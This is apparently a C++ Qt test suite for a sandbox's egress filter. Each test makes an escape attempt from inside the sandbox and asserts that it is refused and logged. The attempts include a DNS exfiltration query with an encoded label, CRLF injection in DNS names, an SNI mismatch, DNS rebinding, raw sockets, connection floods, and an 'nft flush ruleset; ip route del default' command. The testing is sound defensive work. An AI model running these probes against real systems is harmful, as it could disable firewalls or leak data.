// Attacks on the egress interception from inside a sandbox. Every one must
// fail — no byte reaches anything the rules did not allow — and be in the
// log with the reason: a connection or packet Paddock saw, or a call PID 1
// refused (raw sockets, firewall changes). The one exception is `ip route`:
// the kernel refuses it (EPERM) and shows nobody the request.
#include "hostile_probe.h"
#include "upstream_servers.h"

#include <QHostInfo>
#include <QTest>

using namespace paddock;
using namespace paddock::test;

class TstHostileEgress : public QObject {
    Q_OBJECT

    SandboxFixture m_fx;
    EchoServer m_echo;

    QByteArray python(const QString &code)
    {
        ExecOutput r = pythonAttack(m_fx, code);
        return (r.out + r.err).trimmed();
    }
    // Connects, reads; prints "reset" when the interception refused it.
    QByteArray connectAndRead(const QString &host, int port, int family = 4)
    {
        return python(QStringLiteral("import socket\n"
                                     "s = socket.socket(socket.AF_INET%1)\ns.settimeout(5)\n"
                                     "try:\n    s.connect(('%2', %3))\n    print('read', s.recv(10))\n"
                                     "except ConnectionResetError:\n    print('reset')")
                          .arg(family == 6 ? QStringLiteral("6") : QString(), host)
                          .arg(port));
    }
    std::optional<EgressLogEntry> logged(const std::function<bool(const EgressLogEntry &)> &pred)
    {
        return waitForEgressLog(*m_fx.engine, m_fx.sandbox.id, pred);
    }
    qsizetype entriesWith(const QString &reason)
    {
        EgressLogQuery q;
        q.sandbox = m_fx.sandbox.id;
        q.limit = 100000;
        const QList<EgressLogEntry> all = m_fx.engine->egressLog(q).value_or(QList<EgressLogEntry>());
        return std::count_if(all.begin(), all.end(), [&](const EgressLogEntry &e) { return e.reason.contains(reason); });
    }
    void allow(const QString &pattern)
    {
        EgressRule r;
        r.pattern = pattern;
        r.action = EgressAction::Allow;
        QVERIFY(m_fx.engine->addEgressRule(m_fx.sandbox.id, r));
    }
    // A DNS query for `name` (raw label bytes allowed) to `server`; prints the rcode and answer.
    QByteArray dnsQuery(const QString &labelsPython, const QString &server = QStringLiteral("127.0.0.1"))
    {
        return python(QStringLiteral(
                          "import socket, struct\n"
                          "labels = %1\n"
                          "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
                          "q += b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + struct.pack('>HH', 1, 1)\n"
                          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\n"
                          "s.sendto(q, ('%2', 53))\nr, peer = s.recvfrom(512)\n"
                          "rcode = r[3] & 15\nanswers = struct.unpack('>H', r[6:8])[0]\n"
                          "print('rcode', rcode, 'from', peer[0], 'answer', socket.inet_ntoa(r[-4:]) if answers else '-')")
                          .arg(labelsPython, server));
    }

private Q_SLOTS:
    void initTestCase()
    {
        const QString failed = m_fx.setUp(QStringLiteral("egress-attacks"));
        QVERIFY2(failed.isEmpty(), qPrintable(failed));
        QVERIFY(m_fx.engine->setHostOverride(HostOverride { QStringLiteral("front.test"), QStringLiteral("127.0.0.1"), m_echo.serverPort() }));
        allow(QStringLiteral("front.test"));
    }
    void cleanupTestCase() { m_fx.tearDown(); }

    void literalAddressesAreRefusedAndLogged()
    {
        QCOMPARE(connectAndRead(QStringLiteral("198.51.100.7"), 443), QByteArray("reset"));
        auto e = logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("198.51.100.7"); });
        QVERIFY(e && e->verdict == EgressVerdict::Denied && e->host.isEmpty());
    }

    void ipv6IsRefusedAndLogged()
    {
        QCOMPARE(connectAndRead(QStringLiteral("2001:db8::7"), 80, 6), QByteArray("reset"));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("2001:db8::7") && e.verdict == EgressVerdict::Denied; }));
    }

    // The query never leaves: Paddock answers it, with a fake address.
    void dnsToAnOutsideResolverIsAnsweredByPaddock()
    {
        QByteArray r = dnsQuery(QStringLiteral("[b'exfil-c2VjcmV0', b'example', b'com']"), QStringLiteral("8.8.8.8"));
        QVERIFY2(r.startsWith("rcode 0 from 8.8.8.8 answer 198.1"), r.constData());
        auto e = logged([](const EgressLogEntry &e) { return e.host == QStringLiteral("exfil-c2vjcmv0.example.com"); });
        QVERIFY(e);
        QCOMPARE(e->verdict, EgressVerdict::Redirected);
    }

    void dnsOverTcpToAnOutsideResolverIsRefused()
    {
        QCOMPARE(connectAndRead(QStringLiteral("8.8.4.4"), 53), QByteArray("reset"));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("8.8.4.4") && e.port == 53; }));
    }

    void malformedDnsQueriesAreRefusedAndLogged()
    {
        QByteArray crlf = dnsQuery(QStringLiteral("[b'evil\\r\\nX-Injected: 1', b'test']"));
        QVERIFY2(crlf.startsWith("rcode 5"), crlf.constData()); // REFUSED
        QByteArray longLabel = dnsQuery(QStringLiteral("[b'a' * 64, b'test']"));
        QVERIFY2(longLabel.startsWith("rcode 1"), longLabel.constData()); // FORMERR
        QByteArray longName = dnsQuery(QStringLiteral("[b'a' * 60] * 5"));
        QVERIFY2(longName.startsWith("rcode 1"), longName.constData());
        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("\\x0d\\x0a")); }));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("longer than 63")); }));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("longer than 253")); }));
    }

    // An allowed name must not open a way to a different server behind the
    // same address: the upstream never sees a byte.
    void aServerNameOtherThanTheAllowedOneIsRefused()
    {
        const qint64 before = m_echo.bytesReceived;
        QByteArray r = python(QStringLiteral("import socket, ssl\n"
                                             "ctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n"
                                             "s = socket.create_connection(('front.test', 443), timeout=5)\n"
                                             "try:\n    ctx.wrap_socket(s, server_hostname='evil.test')\n    print('handshake')\n"
                                             "except (ConnectionResetError, ssl.SSLError, OSError) as e:\n    print('refused')"));
        QCOMPARE(r, QByteArray("refused"));
        auto e = logged([](const EgressLogEntry &e) { return e.host == QStringLiteral("front.test") && !e.open && e.verdict == EgressVerdict::Denied; });
        QVERIFY(e);
        QVERIFY2(e->reason.contains(QStringLiteral("'evil.test' differs from 'front.test'")), qPrintable(e->reason));
        QCOMPARE(m_echo.bytesReceived, before);
    }

    void anAllowedNameThatResolvesToLoopbackIsRefused()
    {
        // This machine's own name resolves, on the host, to a loopback or
        // private address: the classic DNS-rebinding target.
        const QString name = QHostInfo::localHostName().toLower();
        const QHostInfo info = QHostInfo::fromName(name);
        if (!isValidHostName(name) || info.addresses().isEmpty())
            QSKIP("this machine's host name does not resolve");
        for (const QHostAddress &a : info.addresses())
            if (!a.isLoopback() && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("10.0.0.0/8"))) && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("172.16.0.0/12"))) && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("192.168.0.0/16"))))
                QSKIP("this machine's host name resolves to a public address");
        allow(name);
        QCOMPARE(connectAndRead(name, 80), QByteArray("reset"));
        auto e = logged([&](const EgressLogEntry &e) { return e.host == name; });
        QVERIFY(e);
        QCOMPARE(e->verdict, EgressVerdict::Denied);
        QVERIFY2(e->reason.contains(QStringLiteral("DNS-rebinding")), qPrintable(e->reason));
    }

    void aPrivateAddressNeedsARuleThatNamesIt()
    {
        allow(QStringLiteral("*"));
        QCOMPARE(connectAndRead(QStringLiteral("10.11.12.13"), 80), QByteArray("reset"));
        auto e = logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("10.11.12.13"); });
        QVERIFY(e);
        QVERIFY2(e->reason.contains(QStringLiteral("private (10.0.0.0/8)")), qPrintable(e->reason));
        QVERIFY(m_fx.engine->removeEgressRule(m_fx.sandbox.id, m_fx.engine->egressRules(m_fx.sandbox.id)->last().id));
    }

    void theInterceptionPortCannotBeUsedDirectly()
    {
        QCOMPARE(connectAndRead(QStringLiteral("127.0.0.1"), 15001), QByteArray("reset"));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("interception port")); }));
    }

    void firewallAndRoutesCannotBeChangedFromInside()
    {
        ExecOutput r = attack(m_fx, QStringLiteral("nft flush ruleset; echo a=$?; ip route del default; echo b=$?; "
                                                   "ip route add 198.51.100.0/24 dev lo table local; echo c=$?; "
                                                   "ip -6 route del default; echo d=$?"));
        for (const char *step : { "a=0", "b=0", "c=0", "d=0" })
            QVERIFY2(!r.out.contains(step), r.out.constData());
        // nft was seen opening its firewall socket, and named.
        QVERIFY(logged([](const EgressLogEntry &e) {
            return e.protocol == QStringLiteral("firewall") && e.verdict == EgressVerdict::Denied
                && e.process.startsWith(QStringLiteral("nft (pid "));
        }));
        // Still intercepted afterwards.
        QCOMPARE(connectAndRead(QStringLiteral("198.51.100.9"), 80), QByteArray("reset"));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("198.51.100.9"); }));
    }

    // Raw and packet sockets would put packets on the wire past nftables'
    // redirect: refused, and each attempt logged with its process.
    void rawAndPacketSocketsAreRefusedAndLogged()
    {
        QByteArray r = python(QStringLiteral(
            "import socket\n"
            "for args in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP), (socket.AF_INET6, socket.SOCK_RAW, 58),\n"
            "             (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_DGRAM, 0),\n"
            "             (socket.AF_INET, 10, 0)]:\n" // SOCK_PACKET
            "    try:\n        socket.socket(*args)\n        print('opened', args)\n"
            "    except PermissionError:\n        pass\n"
            "print('done')"));
        QCOMPARE(r, QByteArray("done"));
        for (const char *what : { "raw IPv4 socket", "raw IPv6 socket", "packet socket", "SOCK_PACKET" })
            QVERIFY2(logged([what](const EgressLogEntry &e) {
                         return e.reason.contains(QLatin1String(what)) && e.verdict == EgressVerdict::Denied
                             && e.process.startsWith(QStringLiteral("python3 (pid "));
                     }),
                     what);
    }

    // PID 1 tells every engine connection when a background process ends:
    // the egress connection must not take that for a broken report and stop
    // listening, or later attempts would go unlogged.
    void refusalsAreStillLoggedAfterABackgroundProcessEnds()
    {
        auto spawned = await<ProcessInfo>([&](Callback<ProcessInfo> done) {
            m_fx.engine->spawn(m_fx.sandbox.id, CommandSpec { { QStringLiteral("true") } }, QStringLiteral("brief"), done);
        });
        QVERIFY(spawned);
        QTRY_VERIFY(m_fx.engine->process(m_fx.sandbox.id, QStringLiteral("brief"))->state != ProcessState::Running);
        const qsizetype before = entriesWith(QStringLiteral("raw IPv6 socket"));
        QCOMPARE(python(QStringLiteral("import socket\ntry:\n    socket.socket(socket.AF_INET6, socket.SOCK_RAW, 17)\n"
                                       "except PermissionError:\n    print('refused')")),
                 QByteArray("refused"));
        QTRY_COMPARE(entriesWith(QStringLiteral("raw IPv6 socket")), before + 1);
    }

    // A loop of refused calls is refused every time, but cannot flood the log.
    void aLoopOfRawSocketsIsRefusedWithoutFloodingTheLog()
    {
        auto rawSocketEntries = [this] {
            EgressLogQuery q;
            q.sandbox = m_fx.sandbox.id;
            q.limit = 100000;
            auto entries = m_fx.engine->egressLog(q);
            return entries ? std::count_if(entries->begin(), entries->end(),
                                           [](const EgressLogEntry &e) { return e.protocol == QStringLiteral("raw-socket"); })
                           : -1;
        };
        const auto before = rawSocketEntries();
        QByteArray r = python(QStringLiteral(
            "import socket\nrefused = 0\n"
            "for i in range(3000):\n"
            "    try:\n        socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n"
            "    except PermissionError:\n        refused += 1\n"
            "print(refused)"));
        QCOMPARE(r, QByteArray("3000"));
        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("more refused in the last second")); }));
        const auto added = rawSocketEntries() - before;
        QVERIFY2(added > 0 && added < 500, qPrintable(QString::number(added)));
    }

    // Many at once: every one spliced, none dropped for lack of descriptors.
    void hundredsOfConnectionsAtOnceAllWork()
    {
        QByteArray r = python(QStringLiteral(
            "import socket\nsocks = [socket.create_connection(('front.test', 7), timeout=10) for _ in range(300)]\n"
            "for i, s in enumerate(socks):\n    s.sendall(b'%d\\n' % i)\n"
            "ok = sum(1 for i, s in enumerate(socks) if s.recv(16) == b'%d\\n' % i)\nprint(ok)"));
        QCOMPARE(r, QByteArray("300"));
    }

    // A storm of refused connections: each one refused, and the engine
    // still serves the sandbox afterwards.
    void aFloodOfRefusedConnectionsIsRefusedEveryTime()
    {
        QByteArray r = python(QStringLiteral(
            "import socket\nresets = 0\n"
            "for i in range(1000):\n"
            "    try:\n        s = socket.create_connection(('198.51.100.%d' % (i % 250 + 1), 443), timeout=10)\n"
            "        s.recv(1)\n    except ConnectionResetError:\n        resets += 1\n"
            "print(resets)"));
        QCOMPARE(r, QByteArray("1000"));
        QCOMPARE(python(QStringLiteral("import socket\ns = socket.create_connection(('front.test', 7), timeout=5)\n"
                                       "s.sendall(b'still\\n')\nprint(s.recv(16).decode().strip())")),
                 QByteArray("still"));
    }

    // Everything but TCP and DNS is dropped, and the drop is logged with
    // where it was going.
    void otherUdpGoesNowhereAndIsLogged()
    {
        // The socket stays open a moment, as in a real program: PID 1 names
        // the process through it (one that has already exited is not named).
        QByteArray r = python(QStringLiteral("import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n"
                                             "try:\n    s.sendto(b'x', ('198.51.100.1', 123))\n    s.recvfrom(10)\n    print('answered')\n"
                                             "except OSError as e:\n    time.sleep(2)\n    print('nothing')"));
        QCOMPARE(r, QByteArray("nothing"));
        auto e = logged([](const EgressLogEntry &e) { return e.protocol == QStringLiteral("udp") && e.port == 123; });
        QVERIFY(e);
        QCOMPARE(e->address, QStringLiteral("198.51.100.1"));
        QCOMPARE(e->verdict, EgressVerdict::Denied);
        QVERIFY2(e->reason.contains(QStringLiteral("dropped")), qPrintable(e->reason));
        QVERIFY2(e->process.startsWith(QStringLiteral("python3 (pid ")), qPrintable(e->process));
        QCOMPARE(e->rule, QStringLiteral("built in"));
    }

    // DNS over IPv6 to an outside resolver is not redirected (the sandbox's
    // resolver is IPv4): dropped, and logged.
    void ipv6UdpIsDroppedAndLogged()
    {
        QByteArray r = python(QStringLiteral("import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
                                             "try:\n    s.sendto(b'x', ('2001:db8::53', 53))\n    print('sent')\n"
                                             "except OSError as e:\n    print('refused')"));
        QCOMPARE(r, QByteArray("refused"));
        QVERIFY(logged([](const EgressLogEntry &e) {
            return e.protocol == QStringLiteral("udp") && e.address == QStringLiteral("2001:db8::53") && e.port == 53;
        }));
    }
};

QTEST_GUILESS_MAIN(TstHostileEgress)
#include "tst_hostile_egress.moc"
